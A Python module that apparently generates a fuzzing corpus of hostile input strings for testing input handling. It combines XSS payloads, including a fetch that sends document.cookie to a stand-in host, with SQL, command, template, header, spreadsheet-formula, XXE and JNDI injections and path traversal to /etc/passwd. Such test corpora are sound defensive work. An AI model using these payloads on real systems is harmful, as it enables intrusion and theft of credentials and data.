"""300 hostile texts, made and not listed: markup, script addresses, header lines, templates, formulas, odd signs."""

from itertools import product

_SCRIPTS = ("alert(1)", "confirm(document.domain)", "fetch('//evil.example.net/'+document.cookie)")
_MARKUP = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg/onload={}>", '"><script>{}</script>',
    "'><img src=x onerror={}>",
    "</textarea><script>{}</script>", "</title><svg onload={}>", "<iframe srcdoc='<script>parent.{}</script>'>",
    "<details open ontoggle={}>", '" autofocus onfocus={} x="', "' onmouseover={} '", '<a href="javascript:{}">x</a>',
    '<math><mi xlink:href="javascript:{}">', "<style>@import'javascript:{}'</style>", "<body onload={}>",
    "<!--><script>{}</script>",
    "]]><script>{}</script>", "<scr<script>ipt>{}</scr</script>ipt>", "<template><script>{}</script></template>",
    "</script><script>{}</script>", '<object data="data:text/html,<script>{}</script>">',
    "<base href=//evil.example.net><script>{}</script>",
)  # fmt: skip
_ADDRESSES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "data:text/html,<script>{}</script>", "vbscript:{}",
    "//evil.example.net/{}", "https://evil.example.net/\\@www.example.com/{}",
)  # fmt: skip
_BREAKS = ("\r\n", "\n", "\r", "%0d%0a", "\u2028", "\u0085", "\x0b")
_HEADERS = (
    "Bcc: victim@example.net", "Set-Cookie: a=b", "Location: https://evil.example.net/", "Content-Type: text/html",
    "To: a@example.com, b@example.net", "\r\n<script>alert(1)</script>",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{{config.items()}}", "{{request.application.__globals__}}", "{0.__class__}", "%(password)s", "$name",
    "${{<%[%'\"}}%\\.",
    "{{''.__class__.__mro__[1]}}", "*|MC:SUBJECT|*", "[[${7*7}]]", "@(7*7)",
    "{{constructor.constructor('alert(1)')()}}",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example.net","x")',
    "\t=1+1", "\uff1d1+1", '=IMPORTXML("https://evil.example.net","//a")', "%0A=1+1", '"=1+1', " =1+1",
)  # fmt: skip
_QUOTES = (
    "' OR 1=1 --", "'; DROP TABLE leads; --", '" OR ""="', "1; SELECT pg_sleep(5)",
    "') UNION SELECT secret_hash FROM api_keys --",
    "admin'/*", "\\'; --", "%' OR '%'='", "../../../../etc/passwd", "..\\..\\secret.key", "/dev/zero",
    "${jndi:ldap://evil.example.net/a}",
    "; cat /etc/passwd", "| id", "`id`", "$(id)",
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    '<!--#exec cmd="id"-->', "__proto__", "constructor", "null", "NaN", "1e999", "0x7fffffff",
)  # fmt: skip
_ODD = (
    "\u202egnp.exe", "\u200b", "\ufeff", "\U0001f600" * 50, "e\u0301" * 100, "\u0130", "\ufb01",
    "A" * 5_000, "\x01\x02\x1b[31m",
    "\u0645\u0631\u062d\u0628\u0627", "\uffff", "%00", "%c0%ae", "&lt;script&gt;", "&#x3c;script&#x3e;",
    "\\u003cscript\\u003e", "+ADw-script+AD4-",
)  # fmt: skip


def payloads() -> list[str]:
    """Every hostile text, each once."""
    made = [form.format(script) for form, script in product(_MARKUP + _ADDRESSES, _SCRIPTS)]
    made += [f"Ana{end}{header}" for end, header in product(_BREAKS, _HEADERS)]
    made += [*_TEMPLATES, *_FORMULAS, *_QUOTES, *_ODD]
    made += [f"{formula}{script}" for formula, script in product(_FORMULAS, _SCRIPTS)]
    made += [f"{template}<img src=x onerror={script}>" for template, script in product(_TEMPLATES, _SCRIPTS)]
    made += [f"{quote}{form.format(_SCRIPTS[0])}" for quote, form in product(_QUOTES[:6], _MARKUP[:6])]
    return list(dict.fromkeys(made))
